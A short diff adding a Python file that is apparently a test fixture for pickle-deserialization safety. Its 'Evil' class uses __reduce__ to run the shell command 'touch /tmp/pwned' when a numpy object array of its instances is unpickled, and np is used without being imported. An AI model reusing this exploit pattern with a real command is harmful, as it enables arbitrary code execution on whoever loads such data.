@@ -1,0 +1,12 @@
+# %%
+# ruff: noqa
+import os
+
+
+class Evil:
+    def __reduce__(self):
+        return (os.system, ("touch /tmp/pwned",))
+
+
+def generate(n):
+    return np.array([Evil()] * n, dtype=object)
